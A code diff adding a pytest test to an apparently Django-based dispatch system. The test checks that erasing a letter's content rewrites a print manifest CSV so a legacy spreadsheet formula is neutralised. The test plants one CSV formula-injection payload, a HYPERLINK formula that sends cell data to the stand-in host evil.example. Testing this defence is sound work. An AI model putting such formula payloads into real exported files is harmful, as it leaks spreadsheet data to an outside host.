@@ -144,3 +144,21 @@ def test_a_queued_dispatch_keeps_its_content_until_sent(demo_templates):
     assert count.dispatches == 0 and count.busy == 1
     queued.refresh_from_db()
     assert queued.body_text and queued.erased_parts == 0
+
+
+def test_erasing_rewrites_the_print_manifest_without_a_runnable_formula(
+    channels_sent,
+):
+    """A manifest line written before neutralisation is neutralised on rewrite."""
+    letter = channels_sent(1)["letter"]
+    (manifest,) = Path(settings.MEDIA_ROOT).glob("print/*/manifest.csv")
+    legacy = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    with manifest.open("a", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerow([99999, legacy, "dispatch-99999.pdf", "0" * 64])
+
+    dispatches_content_erase([letter.pk], cause=ErasureCause.REQUEST, reason="DSR-8")
+
+    header, *rows = list(csv.reader(manifest.open(newline="", encoding="utf-8")))
+    by_dispatch = {row[header.index("dispatch")]: row for row in rows}
+    assert by_dispatch[str(letter.pk)][header.index("address")] == ""
+    assert by_dispatch["99999"][header.index("address")] == "'" + legacy
